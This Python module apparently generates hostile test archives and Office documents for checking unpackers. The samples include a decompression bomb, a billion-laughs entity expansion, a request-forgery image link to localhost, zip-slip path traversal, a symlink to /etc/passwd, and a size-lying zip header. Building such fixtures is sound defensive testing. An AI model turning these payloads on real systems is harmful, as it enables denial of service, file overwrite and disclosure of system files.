"""Hostile archives and documents, each made for one weakness of what unpacks them."""

import io
import struct
import zipfile
from collections.abc import Iterable

OFFICE = "http://schemas.openxmlformats.org"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = (
    f'<?xml version="1.0"?><Types xmlns="{OFFICE}/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    f'<Override PartName="/word/document.xml" ContentType="{WORD}"/></Types>'
)
LINK = 0o120777


def relation(kind: str, target: str, more: str = "") -> str:
    kind = f"{OFFICE}/officeDocument/2006/relationships/{kind}"
    one = f'<Relationship Id="r1" Type="{kind}" Target="{target}"{more}/>'
    return f'<Relationships xmlns="{OFFICE}/package/2006/relationships">{one}</Relationships>'


def document(*parts: tuple[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("_rels/.rels", relation("officeDocument", "word/document.xml"))
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def bomb() -> bytes:
    return document(("word/document.xml", b"<w>" + b"A" * 300_000_000))


def fetching() -> bytes:
    image = relation("image", "http://127.0.0.1:9/ssrf.png", ' TargetMode="External"')
    empty = f'<w:document xmlns:w="{OFFICE}/wordprocessingml/2006/main"><w:body/></w:document>'
    return document(("word/_rels/document.xml.rels", image), ("word/document.xml", empty))


def laughing() -> bytes:
    said = "".join(
        f'<!ENTITY {chr(98 + each)} "{f"&{chr(97 + each)};" * 10}">' for each in range(8)
    )
    told = f'<!DOCTYPE l [<!ENTITY a "{"x" * 100}">{said}]>'
    return document(("word/document.xml", f'{told}<w:document xmlns:w="w">&i;</w:document>'))


def macros() -> bytes:
    return document(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0stub"), ("word/document.xml", "<w/>"))


def archive(entries: Iterable[tuple[str, bytes, int]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content, mode in entries:
            entry = zipfile.ZipInfo(name)
            entry.compress_type = zipfile.ZIP_DEFLATED
            if mode:
                entry.external_attr, entry.create_system = mode << 16, 3
            made.writestr(entry, content)
    return out.getvalue()


def escaping() -> bytes:
    return archive(
        [
            ("../../../../tmp/ZZ_SLIP", b"x", 0),
            ("/tmp/ZZ_ABS", b"x", 0),
            ("link", b"/etc/passwd", LINK),
            ("datapackage.json", b"{}", 0),
        ]
    )


def crowded() -> bytes:
    return archive((f"a/{each}", b"", 0) for each in range(100_000))


def lying() -> bytes:
    """Its list says ten bytes; what is packed there is eighty million."""
    whole = bytearray(archive([("archive/data.warc", b"B" * 80_000_000, 0)]))
    struct.pack_into("<I", whole, whole.find(b"PK\x01\x02") + 24, 10)
    return bytes(whole)
